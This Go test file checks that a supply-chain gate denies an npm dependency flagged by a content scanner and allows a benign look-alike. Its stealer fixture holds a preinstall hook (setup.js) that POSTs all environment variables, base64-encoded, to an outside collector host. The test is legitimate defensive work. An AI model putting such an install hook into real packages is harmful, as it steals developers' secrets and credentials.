package chaingate_test

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/chaingate/chaingate"
	"github.com/chaingate/chaingate/internal/contentdata"
	"github.com/chaingate/chaingate/risk"
	"github.com/chaingate/chaingate/risk/content"
	"github.com/chaingate/chaingate/risk/signal"
	"github.com/chaingate/chaingate/sbom"
)

// TestEvaluateDeniesContentStealer: a dependency's npm tarball whose
// install hook posts the environment is scanned, its content signals are
// attributed to the dependency and given to the gate, and the candidate
// is denied by the policy library's signals rule; a look-alike benign
// tarball (an API client sending its own key) leaves it allowed.
func TestEvaluateDeniesContentStealer(t *testing.T) {
	const purl = "pkg:npm/env-helper@1.0.0"
	scan := func(files map[string][]byte) *content.Report {
		t.Helper()
		tgz, err := contentdata.TarGz(files)
		if err != nil {
			t.Fatal(err)
		}
		rep, err := content.ScanPackageArchive(context.Background(), "env-helper-1.0.0.tgz", bytes.NewReader(tgz))
		if err != nil {
			t.Fatal(err)
		}
		return rep
	}
	stealer := scan(map[string][]byte{
		"package/package.json": []byte(`{"name":"env-helper","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}`),
		"package/setup.js": []byte("const https = require('https');\nconst req = https.request({hostname: 'c.collector-api.net', method: 'POST'});\n" +
			"req.write(Buffer.from(JSON.stringify(process.env)).toString('base64'));\nreq.end();\n"),
	})
	benign := scan(map[string][]byte{
		"package/package.json": []byte(`{"name":"env-helper","version":"1.0.0"}`),
		"package/index.js": []byte("const https = require('https');\nmodule.exports = (b) => {\n  const req = https.request({hostname: 'api.env-helper.example', headers: {authorization: process.env.ENV_HELPER_TOKEN}});\n" +
			"  req.end(JSON.stringify(b));\n};\n"),
	})
	if !stealer.Malicious || benign.Malicious {
		t.Fatalf("content verdicts: stealer %v (%.3f), benign %v (%.3f)", stealer.Malicious, stealer.Score, benign.Malicious, benign.Score)
	}

	c := sigstoreJS(t)
	doc, err := sbom.Decode(bytes.NewReader(c.SBOM))
	if err != nil {
		t.Fatal(err)
	}
	withDep := *doc
	withDep.Components = append(append([]sbom.Component(nil), doc.Components...),
		sbom.Component{ID: "env-helper@1.0.0", Type: "library", Name: "env-helper", Version: "1.0.0", PURL: purl})
	c.Document = &withDep

	for _, tc := range []struct {
		name  string
		rep   *content.Report
		allow bool
	}{{"stealer", stealer, false}, {"benign look-alike", benign, true}} {
		t.Run(tc.name, func(t *testing.T) {
			g := newGate(t, chaingate.WithScanOptions(risk.WithDetectors(signal.Static(tc.rep.SignalsFor(purl)))))
			v, err := g.Evaluate(context.Background(), c)
			if err != nil {
				t.Fatal(err)
			}
			if v.Allow != tc.allow {
				t.Fatalf("allow %v, want %v; reasons %v", v.Allow, tc.allow, codes(v.Reasons))
			}
			if !tc.allow {
				var msg string
				for _, r := range v.Reasons {
					if r.Code == "CG-SIG-001" {
						msg = r.Message
					}
				}
				if !strings.Contains(msg, purl) || !strings.Contains(msg, "env-exfiltration") {
					t.Errorf("CG-SIG-001 reason %q; reasons %v", msg, codes(v.Reasons))
				}
			}
		})
	}
}
